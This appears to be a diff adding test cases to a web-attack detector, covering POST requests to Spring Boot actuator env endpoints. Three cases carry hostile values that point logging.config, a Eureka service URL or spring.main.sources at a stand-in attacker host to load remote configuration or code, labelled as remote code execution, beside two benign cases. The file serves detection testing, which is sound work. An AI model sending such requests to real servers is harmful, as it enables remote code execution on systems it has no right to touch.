@@ -2162,6 +2162,43 @@ def test_plain_path_segments_are_no_points_of_their_own(engine: Engine) -> None:
             ),
             set(),
         ),
+        # Spring Boot's actuator: a property that loads configuration or code from a URL,
+        # set through its env endpoint (Boot 2's JSON pair, Boot 1's form); a level set,
+        # or the configuration from the class path, is an operator's.
+        (
+            Request(
+                "POST",
+                "/actuator/env",
+                JSON,
+                b'{"name":"logging.config","value":"http://evil.example/logback.xml"}',
+            ),
+            {"rce"},
+        ),
+        (
+            Request(
+                "POST",
+                "/env",
+                FORM,
+                b"eureka.client.serviceUrl.defaultZone=http%3A%2F%2Fevil.example%2Fxstream",
+            ),
+            {"rce"},
+        ),
+        (
+            Request(
+                "POST", "/manage/env", FORM, b"spring.main.sources=http://evil.example/x.groovy"
+            ),
+            {"rce"},
+        ),
+        (
+            Request(
+                "POST", "/actuator/env", JSON, b'{"name":"logging.level.root","value":"DEBUG"}'
+            ),
+            set(),
+        ),
+        (
+            Request("POST", "/env", FORM, b"logging.config=classpath%3Alogback-spring.xml"),
+            set(),
+        ),
         # Jira's Seraph (CVE-2022-0540): a page's name with an empty parameter after it.
         (Request("GET", "/secure/WBSGanttManageScheduleJobAction.jspa;"), {"ptrav"}),
         # Supervisor (CVE-2017-11610): an XML-RPC method reaching os.system by attributes.
